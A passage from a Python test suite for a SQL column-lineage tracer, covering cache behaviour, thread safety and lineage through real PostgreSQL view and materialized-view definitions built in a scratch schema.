    ("SELECT email, note FROM customers GROUP BY ROLLUP (1)", "SELECT email, note FROM customers GROUP BY ROLLUP (2)"),
])
def test_positions_are_never_taken_for_literals(first: str, second: str) -> None:
    """An integer that names an output column's position changes what the statement uses:
    a statement that differs from a traced one only there gets its own lineage."""
    lineage.cache_clear()
    one(first)
    after_first = one(second)
    lineage.cache_clear()
    assert after_first == one(second)
    if (first, second) in POSITIONS:
        lineage.cache_clear()
        assert one(first) != one(second)  # the pair tells the two apart


def test_the_cache_is_per_catalog() -> None:
    first = Catalog({"public.t": ["a"]}, {})
    second = Catalog({"public.t": ["b"]}, {})
    assert one("SELECT * FROM t", catalog=first).outputs[0].name == "a"
    assert one("SELECT * FROM t", catalog=second).outputs[0].name == "b"


def test_results_are_immutable_and_thread_safe() -> None:
    lineage.cache_clear()
    seen: list[Lineage | None] = []

    def work() -> None:
        for i in range(50):
            seen.extend(statement_lineage(f"SELECT email, {i} FROM customers", CATALOG))

    threads = [threading.Thread(target=work) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(seen) == 200 and all(s is not None and s.outputs[0].sources == src("c.email") for s in seen)
    with pytest.raises(TypeError):
        seen[0].uses["where"] = frozenset()  # type: ignore[index, union-attr]


# real view definitions from PostgreSQL -------------------------------------------------------

class PgCatalog:
    """Columns from information_schema, view definitions from pg_get_viewdef with an empty
    search_path (so every name in them is schema-qualified), as the proxy's catalog reads them."""

    def __init__(self, conn: psycopg.Connection, schema: str) -> None:
        self.tables: dict[str, list[str]] = {}
        self.views: dict[str, str] = {}
        rows = conn.execute(
            "SELECT table_schema, table_name, column_name FROM information_schema.columns "
            "WHERE table_schema = %s ORDER BY table_name, ordinal_position", (schema,)).fetchall()
        for s, t, c in rows:
            self.tables.setdefault(f"{s}.{t}", []).append(c)
        conn.execute("SET search_path = ''")
        try:
            for s, t, definition in conn.execute(
                "SELECT n.nspname, c.relname, pg_get_viewdef(c.oid) FROM pg_class c "
                "JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = %s AND c.relkind IN ('v', 'm')",
                (schema,)).fetchall():
                self.views[f"{s}.{t}"] = definition
        finally:
            conn.execute("RESET search_path")

    def columns(self, table: str) -> Sequence[str] | None:
        return self.tables.get(table)

    def view_sql(self, table: str) -> str | None:
        return self.views.get(table)


def test_lineage_through_real_view_definitions(direct: psycopg.Connection) -> None:
    direct.execute("DROP SCHEMA IF EXISTS lin CASCADE")
    direct.execute("CREATE SCHEMA lin")
    try:
        direct.execute("CREATE TABLE lin.people (id int PRIMARY KEY, full_name text, contact text, \"Ref\" text)")
        direct.execute("CREATE TABLE lin.orders (id int, person_id int, amount numeric)")
        direct.execute("CREATE VIEW lin.contacts AS SELECT p.id, lower(p.contact) AS mail, p.\"Ref\" "
                       "FROM lin.people p WHERE p.full_name IS NOT NULL")
        direct.execute("CREATE VIEW lin.spend AS SELECT c.mail, sum(o.amount) AS total "
                       "FROM lin.contacts c JOIN lin.orders o ON o.person_id = c.id GROUP BY c.mail")
        direct.execute("CREATE VIEW lin.renamed AS SELECT contact, full_name FROM lin.people")
        direct.execute("ALTER VIEW lin.renamed RENAME COLUMN contact TO reach")
        direct.execute("CREATE MATERIALIZED VIEW lin.refs AS SELECT \"Ref\" AS r FROM lin.people")
        catalog = PgCatalog(direct, "lin")
        assert "lin.spend" in catalog.views and "lin.refs" in catalog.views

        def run(sql: str) -> list[tuple[str, frozenset[str], str, bool]]:
            result = statement_lineage(sql, catalog, ("lin",))[0]
            assert result is not None
            return [(o.name, o.sources, o.transform, o.opaque) for o in result.outputs]

        people = "lin.people."
        assert run("SELECT * FROM contacts") == [
            ("id", frozenset({people + "id"}), ID, False),
            ("mail", frozenset({people + "contact"}), T, False),
            ("Ref", frozenset({people + "Ref"}), ID, False),
        ]
        assert run("SELECT * FROM spend") == [
            ("mail", frozenset({people + "contact"}), T, False),
            ("total", frozenset({"lin.orders.amount"}), A, False),
        ]
        assert run("SELECT reach, full_name FROM renamed") == [
            ("reach", frozenset({people + "contact"}), ID, False),
            ("full_name", frozenset({people + "full_name"}), ID, False),
        ]
        assert run("SELECT upper(r) FROM refs") == [("upper", frozenset({people + "Ref"}), T, False)]
        # the output columns really are what PostgreSQL returns, in that order
        cur = direct.execute("SELECT * FROM lin.spend")
        assert [d.name for d in cur.description or ()] == [o[0] for o in run("SELECT * FROM spend")]
        cur = direct.execute("SELECT reach, full_name FROM lin.renamed")
        assert [d.name for d in cur.description or ()] == ["reach", "full_name"]
    finally:
        direct.execute("DROP SCHEMA IF EXISTS lin CASCADE")
